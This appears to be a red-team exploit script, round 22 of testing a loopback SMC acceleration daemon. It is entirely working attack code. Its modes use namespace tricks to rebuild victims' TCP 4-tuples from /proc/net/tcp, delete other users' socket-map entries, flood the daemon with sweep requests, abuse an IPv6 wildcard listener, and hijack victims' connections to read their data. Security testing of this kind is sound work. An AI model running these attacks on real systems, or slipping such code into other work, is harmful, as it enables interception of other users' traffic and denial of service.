#!/usr/bin/env python3
"""Red team round 22: a hostile local user (run as uid nobody, outside the attached cgroups)
against the loopback-ism daemon ($SMC_CTL_SOCK) and other users' accelerated connections.

  rt22_attack.py leave PORT
      Reads the 4-tuples of PORT's connections from /proc/net/tcp (world-readable), enters a
      user and network namespace of its own, rebuilds each tuple there (a listener on PORT, a
      client bound to the victim client's port) and asks the daemon for OP_LEAVE_SHORTCUT with
      both of its own sockets. The daemon deletes SOCKHASH entries by 4-tuple alone: prints
      "LEAVE ok=N refused=R" (N: deletions the daemon made for it).
  rt22_attack.py sweepflood N SECS
      N daemon connections, each asking OP_SWEEP with a listener of its own in a loop for SECS
      (optionally in a namespace full of listeners: RT_NSLISTENERS=K makes K listeners there
      first). Prints "SWEEPS n=... maxms=...".
  rt22_attack.py hijack PORT SECS
      (a process of an ATTACHED cgroup, any uid) as `leave`, but both of its sockets opt in to
      SMC (SMC_SO_ENABLE), so that the sock_ops program puts them into the SOCKHASH under the
      victim's 4-tuples (before round 23 the key had no network namespace: they replaced the
      victim's sockets). Prints "BUILT n" once its n sockets exist, then reads them for SECS
      (SECS 0: until a line or EOF on stdin): "HIJACK stolen=BYTES".
  rt22_attack.py probe SECS
      (the victim's side, root) QUERY_GID round trips for SECS: "PROBE n=... p50ms=... maxms=...".
  rt22_attack.py sweepv6 PORT SECS
      Binds [::]:PORT with IPV6_V6ONLY (allowed next to a victim's IPv4 listener of that port),
      and asks for OP_SWEEP with it in a loop for SECS: the key's wildcard covers the victim's
      IPv4 connections. Prints "SWEEPV6 n=... ok=...".
"""
import ctypes
import os
import select
import socket
import struct
import subprocess
import sys
import threading
import time

MAGIC = struct.unpack("<I", b"SMCI")[0]
OP_LEAVE_SHORTCUT = 14
OP_SWEEP = 15
OP_QUERY_GID = 1
CLONE_NEWUSER = 0x10000000
CLONE_NEWNET = 0x40000000


def ctl_path():
    return os.environ.get("SMC_CTL_SOCK", "/run/smc/ctl.sock")


def connect_daemon():
    s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
    s.connect(ctl_path())
    return s


def request(d, op, seq, payload=b"", fds=()):
    rec = struct.pack("<IHHII", MAGIC, 1, op, len(payload), seq) + payload
    if fds:
        socket.send_fds(d, [rec], list(fds))
    else:
        d.send(rec)
    r = d.recv(4096)
    status, detail = struct.unpack_from("<II", r, 16)
    return status, detail


def tuples(port):
    """(client port, server port) of established connections to 127.0.0.1:port."""
    out = []
    with open("/proc/net/tcp") as f:
        next(f)
        for line in f:
            p = line.split()
            loc, rem, st = p[1], p[2], p[3]
            if st != "01":
                continue
            lport = int(loc.split(":")[1], 16)
            rport = int(rem.split(":")[1], 16)
            if rport == port:
                out.append((lport, rport))
    return out


def unshare_net():
    libc = ctypes.CDLL(None, use_errno=True)
    uid, gid = os.getuid(), os.getgid()
    if libc.unshare(CLONE_NEWUSER | CLONE_NEWNET) != 0:
        raise OSError(ctypes.get_errno(), "unshare")
    with open("/proc/self/setgroups", "w") as f:
        f.write("deny")
    with open("/proc/self/uid_map", "w") as f:
        f.write("0 %d 1" % uid)
    with open("/proc/self/gid_map", "w") as f:
        f.write("0 %d 1" % gid)
    subprocess.run(["ip", "link", "set", "lo", "up"], check=True)


def leave(port):
    victims = tuples(port)
    print("victim tuples: %s" % victims, flush=True)
    unshare_net()
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.bind(("127.0.0.1", port))
    ls.listen(64)
    d = connect_daemon()
    ok = refused = 0
    seq = 1
    for cport, sport in victims:
        c = socket.socket()
        c.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        c.bind(("127.0.0.1", cport))
        c.connect(("127.0.0.1", sport))
        a, _ = ls.accept()
        for s in (c, a):
            status, _ = request(d, OP_LEAVE_SHORTCUT, seq, b"", [s.fileno()])
            seq += 1
            if status == 0:
                ok += 1
            else:
                refused += 1
        c.close()
        a.close()
    print("LEAVE ok=%d refused=%d" % (ok, refused), flush=True)


def sweepflood(n, secs):
    k = int(os.environ.get("RT_NSLISTENERS", "0"))
    keep = []
    if k:
        import resource
        _, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
        resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
        k = min(k, hard - 100)
        unshare_net()
        for _ in range(k):
            s = socket.socket()
            s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            s.bind(("127.0.0.1", 47299))
            s.listen(1)
            keep.append(s)
    count = [0]
    maxms = [0.0]
    lock = threading.Lock()
    end = time.monotonic() + secs

    def worker():
        d = connect_daemon()
        ls = socket.socket()
        ls.bind(("127.0.0.1", 0))
        ls.listen(1)
        seq = 1
        while time.monotonic() < end:
            t0 = time.monotonic()
            request(d, OP_SWEEP, seq, b"", [ls.fileno()])
            dt = (time.monotonic() - t0) * 1000
            seq += 1
            with lock:
                count[0] += 1
                maxms[0] = max(maxms[0], dt)

    ts = [threading.Thread(target=worker) for _ in range(n)]
    for t in ts:
        t.start()
    for t in ts:
        t.join()
    print("SWEEPS n=%d maxms=%.0f" % (count[0], maxms[0]), flush=True)


def sweepv6(port, secs):
    ls = socket.socket(socket.AF_INET6)
    ls.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_V6ONLY, 1)
    ls.bind(("::", port))
    ls.listen(1)
    d = connect_daemon()
    n = ok = 0
    end = time.monotonic() + secs
    while time.monotonic() < end:
        status, _ = request(d, OP_SWEEP, n + 1, b"", [ls.fileno()])
        n += 1
        ok += 1 if status == 0 else 0
        time.sleep(0.001)
    print("SWEEPV6 n=%d ok=%d" % (n, ok), flush=True)


SOL_SMC_BPF = 0x534D4300
SMC_SO_ENABLE = 1


def hijack(port, secs):
    victims = tuples(port)
    print("victim tuples: %s" % victims, flush=True)
    unshare_net()
    ls = socket.socket()
    ls.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    ls.setsockopt(SOL_SMC_BPF, SMC_SO_ENABLE, 1)
    ls.bind(("127.0.0.1", port))
    ls.listen(64)
    socks = []
    for cport, sport in victims:
        c = socket.socket()
        c.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        c.setsockopt(SOL_SMC_BPF, SMC_SO_ENABLE, 1)
        c.bind(("127.0.0.1", cport))
        c.connect(("127.0.0.1", sport))
        a, _ = ls.accept()
        socks += [c, a]
    print("BUILT %d" % len(socks), flush=True)
    stolen = 0
    end = time.monotonic() + (secs if secs > 0 else 1e9)
    for s in socks:
        s.setblocking(False)
    while time.monotonic() < end:
        if secs <= 0 and select.select([sys.stdin], [], [], 0)[0]:
            break
        for s in socks:
            try:
                stolen += len(s.recv(65536))
            except BlockingIOError:
                pass
        time.sleep(0.01)
    print("HIJACK stolen=%d" % stolen, flush=True)


def sweepone(secs):
    """(root, the victim) one sweep of a listener of its own a second, as the data path asks
    before an exec into an image without the library: its wait."""
    d = connect_daemon()
    ls = socket.socket()
    ls.bind(("127.0.0.1", 0))
    ls.listen(1)
    lat = []
    end = time.monotonic() + secs
    while time.monotonic() < end:
        t0 = time.monotonic()
        request(d, OP_SWEEP, len(lat) + 1, b"", [ls.fileno()])
        lat.append((time.monotonic() - t0) * 1000)
        time.sleep(0.5)
    lat.sort()
    print("SWEEPONE n=%d p50ms=%.0f maxms=%.0f" % (len(lat), lat[len(lat) // 2], lat[-1]),
          flush=True)


def probe(secs):
    d = connect_daemon()
    lat = []
    end = time.monotonic() + secs
    while time.monotonic() < end:
        t0 = time.monotonic()
        request(d, OP_QUERY_GID, len(lat) + 1)
        lat.append((time.monotonic() - t0) * 1000)
        time.sleep(0.002)
    lat.sort()
    print("PROBE n=%d p50ms=%.1f maxms=%.0f" % (len(lat), lat[len(lat) // 2], lat[-1]),
          flush=True)


if __name__ == "__main__":
    m = sys.argv[1]
    if m == "leave":
        leave(int(sys.argv[2]))
    elif m == "sweepflood":
        sweepflood(int(sys.argv[2]), float(sys.argv[3]))
    elif m == "hijack":
        hijack(int(sys.argv[2]), float(sys.argv[3]))
    elif m == "sweepone":
        sweepone(float(sys.argv[2]))
    elif m == "probe":
        probe(float(sys.argv[2]))
    elif m == "sweepv6":
        sweepv6(int(sys.argv[2]), float(sys.argv[3]))
